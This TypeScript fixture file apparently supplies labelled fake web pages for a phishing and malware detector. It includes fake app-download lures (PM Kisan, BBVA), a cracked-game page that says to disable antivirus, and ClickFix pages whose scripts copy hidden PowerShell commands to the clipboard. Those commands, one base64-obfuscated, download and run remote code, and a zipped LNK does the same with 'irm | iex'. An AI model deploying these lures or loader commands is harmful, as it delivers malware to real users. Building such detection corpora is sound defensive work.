import type { Entry } from '../entry.js';
import { apk, bot, doc, fileRoute, gtag, htmlRoute, iso, jsonRoute, jsRoute, lnk, logo, pe, rar5, redirectRoute, top, zip } from '../parts/zn-kit.js';

export const entries: Entry[] = [
  {
    id: 'zn-malware-apk-pm-kisan-hi',
    label: 'malware',
    kind: 'fake-app-apk',
    url: 'https://pmkisan-samman-nidhi.app-download.in/',
    body: doc({
      lang: 'hi',
      title: 'PM किसान सम्मान निधि - ऐप डाउनलोड',
      c: '#166534',
      body: `${top('पीएम किसान', ['लाभार्थी स्थिति', 'eKYC', 'ऐप'])}
<main><div class="card"><h2>PM किसान की 19वीं किस्त ₹2000 पाने के लिए नया ऐप इंस्टॉल करें</h2>
<p>सभी किसान भाई ध्यान दें: eKYC अब केवल नए ऐप से होगा। पुराना ऐप बंद कर दिया गया है। Play Store पर उपलब्ध नहीं है, नीचे से सीधे डाउनलोड करें।</p>
<ol><li>"PM Kisan.apk" डाउनलोड करें</li><li>सेटिंग्स में "Unknown sources / अज्ञात स्रोत" चालू करें</li><li>ऐप खोलें और सभी अनुमतियाँ (SMS, Accessibility) दें</li></ol>
<p><a class="btn" href="/dl/PM_Kisan_v3.2.apk">⬇ PM Kisan.apk डाउनलोड करें (6.1 MB)</a></p></div></main>
${bot(['कृषि एवं किसान कल्याण मंत्रालय, भारत सरकार (sic)'])}`,
    }),
    routes: { 'pmkisan-samman-nidhi.app-download.in/dl/PM_Kisan_v3.2.apk': fileRoute(apk('com.pmkisan.ekyc.update', 'PM Kisan', ['sms_forward', 'https://pmk-panel.app-download.in/api/sms']), 'application/vnd.android.package-archive', 'PM Kisan.apk') },
  },
  {
    id: 'zn-malware-apk-bbva-token-movil-mx',
    label: 'malware',
    kind: 'fake-app-apk',
    url: 'https://bbva-token-movil.mx-app.com/descarga',
    body: doc({
      lang: 'es-MX',
      title: 'BBVA México - Nuevo Token Móvil',
      c: '#072146',
      body: `${top('BBVA', ['Personas', 'Empresas', 'Ayuda'])}
<main><div class="card"><h2>Actualiza tu Token Móvil</h2><p>A partir del 15 de noviembre el token anterior dejará de funcionar. Descarga la nueva versión <b>BBVA Token+</b> para seguir realizando operaciones.</p>
<p><a class="btn" id="dl" href="#">Descargar para Android</a></p><p class="muted">Si tu teléfono muestra una advertencia, selecciona "Instalar de todos modos". La app requiere permiso de Accesibilidad para proteger tus transacciones.</p></div></main>
${bot(['BBVA México, S.A., Institución de Banca Múltiple, Grupo Financiero BBVA México.'])}
<script>document.getElementById('dl').onclick=function(e){e.preventDefault();location.href='/descarga/BBVA_Token_Plus.apk'};
if(/Android/i.test(navigator.userAgent)){setTimeout(function(){location.href='/descarga/BBVA_Token_Plus.apk'},2500)}</script>`,
    }),
    routes: { 'bbva-token-movil.mx-app.com/descarga/BBVA_Token_Plus.apk': fileRoute(apk('mx.bbva.tokenplus', 'BBVA Token+', ['overlay_inject', 'com.bancomer.mbanking']), 'application/vnd.android.package-archive', 'BBVA_Token_Plus.apk') },
  },
  {
    id: 'zn-malware-gta-crack-iso-ur',
    label: 'malware',
    kind: 'cracked-software',
    url: 'https://pcgames-urdu.pk/gta-vi-pc-free-download',
    body: doc({
      lang: 'ur',
      dir: 'rtl',
      title: 'GTA VI PC مفت ڈاؤن لوڈ - مکمل ورژن',
      c: '#111827',
      body: `${top('پی سی گیمز اردو', ['ایکشن', 'ریسنگ', 'کریک'])}
<main><div class="card"><h1>GTA VI PC مفت ڈاؤن لوڈ (Repack)</h1><p>مکمل ورژن، کریک شدہ، اردو ہدایات کے ساتھ۔ ڈاؤن لوڈ کے بعد ISO فائل کھولیں اور <b dir="ltr">Launcher.exe</b> چلائیں۔</p>
<p><a class="btn" href="/files/GTA_VI_PC_Repack.iso">ڈاؤن لوڈ کریں (ISO)</a></p><p class="muted">نوٹ: اینٹی وائرس بند کریں ورنہ کریک ڈیلیٹ ہو جائے گا۔</p></div></main>`,
    }),
    routes: { 'pcgames-urdu.pk/files/GTA_VI_PC_Repack.iso': fileRoute(iso('GTA_VI_REPACK', ['Launcher.exe', 'setup.dll', 'readme.txt']), 'application/x-iso9660-image', 'GTA_VI_PC_Repack.iso') },
  },
  {
    id: 'zn-clickfix-cloudflare-verif-humain-fr',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://lemaghreb-sport.info/match-en-direct',
    body: doc({
      lang: 'fr',
      title: 'Un instant…',
      c: '#f38020',
      css: `body{background:#fff}.wrap{max-width:600px;margin:80px auto;font-family:system-ui}.ov{display:none;position:fixed;inset:0;background:rgba(0,0,0,.6)}.ov .card{max-width:480px;margin:120px auto}`,
      body: `<div class="wrap"><h1>lemaghreb-sport.info</h1><h2>Vérifiez que vous êtes humain</h2><p>lemaghreb-sport.info doit vérifier la sécurité de votre connexion avant de continuer.</p>
<label style="display:flex;gap:10px;border:1px solid #ccc;padding:16px;width:300px"><input type="checkbox" id="cb" style="width:auto"> Vérifiez que vous êtes humain</label>
<p class="muted">Ray ID: 8d2f1a7c3b9e04f1 · Performances et sécurité par Cloudflare</p></div>
<div class="ov" id="ov"><div class="card"><h3>Vérification supplémentaire requise</h3><p>1. Appuyez sur la touche Windows + R<br>2. Appuyez sur Ctrl + V<br>3. Appuyez sur Entrée</p><p class="muted">Cette vérification permet d'éviter les robots.</p></div></div>
<script src="/cdn-cgi/challenge-platform/v.js"></script>`,
    }),
    routes: {
      'lemaghreb-sport.info/cdn-cgi/challenge-platform/v.js': jsRoute(`(function(){var a=['cG93ZXJzaGVsbCAtdyBoaWRkZW4gLWMgIiRyPWl3ciBodHRwczovL2xlbWFnaHJlYi1zcG9ydC5pbmZvL2Nkbi1jZ2kvcy5wczEgLVVzZUJhc2ljUGFyc2luZztpZXggJHIuQ29udGVudCIgIyBJIGFtIG5vdCBhIHJvYm90IC0gUmF5IElEIDhkMmYxYTdj'];
document.getElementById('cb').addEventListener('change',function(){var t=atob(a[0]);var ta=document.createElement('textarea');ta.value=t;document.body.appendChild(ta);ta.select();document.execCommand('copy');ta.remove();document.getElementById('ov').style.display='block'})})();`),
    },
  },
  {
    id: 'zn-clickfix-aadhaar-verify-powershell-in',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://uidai-aadhaar-pdf.download-portal.in/e-aadhaar',
    body: doc({
      lang: 'en-IN',
      title: 'Download e-Aadhaar PDF',
      c: '#b45309',
      body: `${top('e-Aadhaar Download', ['Home', 'Update', 'Help'])}
<main><div class="card"><h2>Your e-Aadhaar is ready</h2><p>The PDF viewer could not load the document due to a font error ("Devanagari Unicode font missing"). Click <b>Fix</b> and follow the instructions to install the font.</p>
<p><button class="btn" id="fx">How to fix</button></p>
<div id="in" style="display:none" class="warn"><p>1. Right-click the Windows Start button and choose <b>Windows PowerShell (Admin)</b> / <b>Terminal</b>.<br>2. Right-click inside the window to paste the fix (already copied).<br>3. Press Enter. The PDF will then open.</p></div></div></main>
<script>document.getElementById('fx').onclick=function(){var s='$f=\"$env:TEMP\\\\font.msi\";iwr \"https://uidai-aadhaar-pdf.download-portal.in/fonts/NotoDevanagari.msi\" -OutFile $f;msiexec /i $f /qn';navigator.clipboard.writeText(s);document.getElementById('in').style.display='block'}</script>`,
    }),
  },
  {
    id: 'zn-malware-quickbooks-invoice-lnk-ke',
    label: 'malware',
    kind: 'invoice-download',
    url: 'https://kra-itax-statement.co.ke.docs-share.net/view?doc=KRA-PIN-Statement',
    body: doc({
      lang: 'en-KE',
      title: 'iTax - Tax Compliance Certificate',
      c: '#c8102e',
      body: `${top('Kenya Revenue Authority — iTax', ['Home', 'Returns', 'Payments'])}
<main><div class="card"><h2>Document shared with you: KRA_Compliance_Certificate_2025.zip</h2><p>Your Tax Compliance Certificate (TCC) is due for renewal. Download the attached statement and follow the instructions inside to avoid penalties of KES 20,000.</p>
<p><a class="btn" href="/view/KRA_Compliance_Certificate_2025.zip">Download (212 KB)</a></p></div></main>`,
    }),
    routes: {
      'kra-itax-statement.co.ke.docs-share.net/view/KRA_Compliance_Certificate_2025.zip': fileRoute(
        zip([{ name: 'KRA_Compliance_Certificate_2025.pdf.lnk', data: lnk('C:\\Windows\\System32\\cmd.exe', '/c start /min conhost --headless powershell -ep bypass -w 1 -c "irm kra-itax-statement.co.ke.docs-share.net/p|iex"', 'C:\\Windows\\System32\\imageres.dll') }]),
        'application/zip',
        'KRA_Compliance_Certificate_2025.zip',
      ),
    },
  },
];
